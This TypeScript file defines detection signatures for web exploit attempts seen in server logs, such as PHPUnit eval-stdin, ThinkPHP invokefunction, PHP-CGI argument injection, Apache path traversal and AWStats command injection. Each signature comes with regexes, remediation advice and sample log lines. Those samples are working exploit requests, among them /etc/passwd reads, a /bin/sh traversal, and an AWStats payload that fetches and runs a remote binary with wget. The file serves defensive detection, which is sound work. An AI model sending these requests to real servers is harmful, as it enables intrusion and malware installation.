import type { Signature } from '../types.js';

const SCANNERS = 'scanners-2024 corpus (nginx access.log, Dec 2024)';
const SMALLSITE = 'smallsite-2015-2018 corpus';
const CROWDSEC = 'crowdsec-hub-tests corpus (crowdsecurity/hub test logs)';

const SCANNER_FIX =
  'The sending host is an automated scanner, usually a compromised server or a rented machine working for a botnet. ' +
  'Nothing needs fixing on its side from you; on your side, make sure the software named above is absent or up to date.';

const BENIGN = [{ request: 'GET /index.php?page=contact HTTP/1.1' }, { request: 'GET /static/js/app.3f2a.js HTTP/1.1' }];

export const webRce: Signature[] = [
  {
    id: 'phpunit-eval-stdin', family: 'php-rce', title: 'PHPUnit eval-stdin.php remote code execution (CVE-2017-9841)',
    description:
      'Old PHPUnit versions (before 4.8.28 and 5.6.3) ship a test helper, eval-stdin.php, that runs any PHP code posted to it. When a site publishes its vendor/ folder, anyone can take it over; bots request vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php under every common folder name. ' +
      SCANNER_FIX + ' Never publish vendor/ under the web root, and remove PHPUnit from production.',
    references: ['CVE-2017-9841', 'CrowdSec crowdsecurity/CVE-2017-9841'],
    stage: 'request', stageReason: 'No visitor or crawler ever requests a PHPUnit test helper; it is an exploit attempt whatever the answer.',
    match: { target: 'path', pattern: '/eval-stdin\\.php$', literals: ['eval-stdin.php'] },
    examples: {
      positive: [
        { request: 'POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1', source: SCANNERS },
        { request: 'POST /wp-content/plugins/dzs-videogallery/class_parts/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1', source: SMALLSITE },
      ],
      negative: [{ request: 'GET /docs/phpunit/stdin.html HTTP/1.1' }, ...BENIGN],
    },
  },
  {
    id: 'thinkphp-invokefunction', family: 'php-rce', title: 'ThinkPHP invokefunction remote code execution (CVE-2018-20062)',
    description:
      'ThinkPHP 5.0/5.1 before 5.0.23/5.1.31 lets a URL such as /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system call any PHP function. Botnets (Mirai variants among them) send it to every server to plant miners and bots. ' +
      SCANNER_FIX + ' If you run ThinkPHP, upgrade it.',
    references: ['CVE-2018-20062', 'CVE-2019-9082', 'CrowdSec crowdsecurity/thinkphp-cve-2018-20062'],
    stage: 'request', stageReason: 'The request names the PHP function to run; it is an exploit attempt whatever the answer.',
    match: { target: 'url', pattern: 'think/[a-z]+/invokefunction|invokefunction&function=', literals: ['invokefunction'] },
    examples: {
      positive: [
        { request: 'GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21 HTTP/1.1', source: 'public honeypot logs of ThinkPHP scans' },
        { request: 'GET /index.php?s=index/\\think\\Container/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1 HTTP/1.1' },
      ],
      negative: [{ request: 'GET /api/functions/invoke?name=report HTTP/1.1' }, ...BENIGN],
    },
  },
  {
    id: 'php-cgi-argument-injection', family: 'php-rce', title: 'PHP-CGI argument injection (CVE-2012-1823, CVE-2024-4577)',
    description:
      'When PHP runs as CGI, a query string such as ?-d+allow_url_include=1+-d+auto_prepend_file=php://input is passed as command-line options, so the body of the request is run as PHP code. CVE-2024-4577 revived it on Windows with a soft hyphen (%AD) in place of "-". ' +
      SCANNER_FIX + ' If you run PHP as CGI, upgrade PHP or switch to PHP-FPM.',
    references: ['CVE-2012-1823', 'CVE-2024-4577'],
    stage: 'request', stageReason: 'Turning on allow_url_include from a URL is an exploit attempt whatever the answer.',
    match: { target: 'url', pattern: 'allow_url_include[+ ]*=[+ ]*(?:1|on|true)|auto_prepend_file[+ ]*=', literals: ['allow_url_include', 'auto_prepend_file'] },
    examples: {
      positive: [{ request: 'POST /hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1', source: CROWDSEC }],
      negative: [{ request: 'GET /manual/en/ini.allow-url-include.php HTTP/1.1' }, ...BENIGN],
    },
  },
  {
    id: 'apache-path-traversal-2021', family: 'path-traversal', title: 'Apache 2.4.49/2.4.50 path traversal (CVE-2021-41773/42013)',
    description:
      'Apache httpd 2.4.49 and 2.4.50 failed to normalise encoded dots, so /cgi-bin/.%2e/.%2e/.%2e/bin/sh (or %%32%65 in 2.4.50) escapes the document root: it reads files such as /etc/passwd and, with CGI enabled, runs commands. ' +
      SCANNER_FIX + ' If you run Apache 2.4.49 or 2.4.50, upgrade at once.',
    references: ['CVE-2021-41773', 'CVE-2021-42013', 'CrowdSec crowdsecurity/http-cve-2021-41773'],
    stage: 'request', stageReason: 'A path segment of encoded dots is never sent by a browser; it only exists to escape the document root.',
    match: { target: 'raw', pattern: '/(?:\\.|%2e|%%32%65)(?:%2e|%%32%65)/|/(?:%2e|%%32%65)\\./', literals: ['%2e', '%32%65'] },
    examples: {
      positive: [
        { request: 'POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1', source: SCANNERS },
        { request: 'POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh HTTP/1.1', source: SCANNERS },
        { request: 'GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1', source: CROWDSEC },
      ],
      negative: [{ request: 'GET /files/report%2e2021.pdf HTTP/1.1' }, ...BENIGN],
    },
  },
  {
    id: 'path-traversal-system-file', family: 'path-traversal', title: 'Path traversal to a system file (/etc/passwd, win.ini)',
    description:
      'A request that tries to read the system password list or a Windows system file through a script parameter or a ../ sequence (file=../../../../etc/passwd, url=file:///etc/passwd). Scanners send it to every parameter they find to test for file-inclusion and traversal holes. ' +
      SCANNER_FIX + ' Check that the named script does not serve files outside its folder.',
    references: ['CWE-22', 'OWASP CRS 930120', 'CrowdSec crowdsecurity/http-path-traversal-probing'],
    stage: 'request', stageReason: 'No page legitimately asks for /etc/passwd or win.ini through a parameter.',
    match: {
      target: 'url',
      // The path is resolved before matching: a ../ chain in the path shows as the file it reaches.
      pattern: '(?:\\.\\./|[=|;`]|file://|cat[+ ]+)/?etc/(?:passwd|shadow)|\\.\\./(?:winnt/|windows/)?(?:win|boot)\\.ini|^/etc/(?:passwd|shadow)(?:$|\\?)|^/(?:(?:winnt|windows)/)?(?:win|boot)\\.ini(?:$|\\?)',
      literals: ['etc/passwd', 'etc/shadow', 'win.ini', 'boot.ini'],
    },
    examples: {
      positive: [
        { request: 'GET /cgi-bin/ustorekeeper.pl?command=goto&file=../../../../../../../../../../etc/passwd HTTP/1.0', source: 'honeynet-2004 corpus' },
        { request: 'GET /viewpage.php?file=/etc/passwd HTTP/1.0', source: 'honeynet-2004 corpus' },
        { request: 'GET /internal.sws?../../winnt/win.ini HTTP/1.0', source: 'honeynet-2004 corpus' },
        { request: 'GET /static/..%2f..%2f..%2fetc/passwd HTTP/1.1', source: 'traversal in the path, resolved' },
      ],
      negative: [{ request: 'GET /docs/linux/etc-passwd-format.html HTTP/1.1' }, ...BENIGN],
    },
  },
  {
    id: 'awstats-configdir', family: 'php-rce', title: 'AWStats configdir command injection (CVE-2005-0116)',
    description:
      'AWStats before 6.3 runs a shell command passed in its configdir parameter (awstats.pl?configdir=|echo;...|). Worms of 2005 (Lupper) and scanners since then send it to every server. ' +
      SCANNER_FIX + ' If you run AWStats, upgrade it or restrict it to your own addresses.',
    references: ['CVE-2005-0116'],
    stage: 'request', stageReason: 'The configdir parameter is the injection vector; normal use of AWStats passes config=.',
    match: { target: 'url', pattern: 'awstats\\.pl\\?[^#]{0,300}configdir=', literals: ['configdir='] },
    examples: {
      positive: [{ request: 'GET /cgi-bin/awstats.pl?configdir=|echo;echo%20YYY;cd%20%2ftmp%3bwget%20198.51.100.7%2flisten%3bchmod%20%2bx%20listen%3b.%2flisten;echo%20YYY;echo| HTTP/1.1', source: 'Lupper worm, SANS ISC diary 2005' }],
      negative: [{ request: 'GET /cgi-bin/awstats.pl?config=www.example.net&framename=mainright HTTP/1.1' }, ...BENIGN],
    },
  },
  {
    id: 'dfind-w00tw00t', family: 'scanner', title: 'DFind / ZmEu scanner (w00tw00t)',
    description:
      'Requests for /w00tw00t.at.ISC.SANS.DFind:) or /w00tw00t.at.blackhats.romanian.anti-sec:) are the calling card of the DFind and ZmEu scanners, which look for phpMyAdmin and other weak spots to break into. ' +
      SCANNER_FIX,
    references: ['CrowdSec crowdsecurity/http-w00tw00t', 'CrowdSec crowdsecurity/http-bad-user-agent (ZmEu)'],
    stage: 'request', stageReason: 'The path is the scanner\'s own marker; no site has such a page.',
    match: { target: 'path', pattern: '/w00tw00t\\.', literals: ['w00tw00t'] },
    examples: {
      positive: [
        { request: 'GET /w00tw00t.at.blackhats.romanian.anti-sec:) HTTP/1.1', source: SMALLSITE },
        { request: 'GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1', source: SMALLSITE },
      ],
      negative: [{ request: 'GET /blog/woot-woot-we-launched HTTP/1.1' }, ...BENIGN],
    },
  },
];
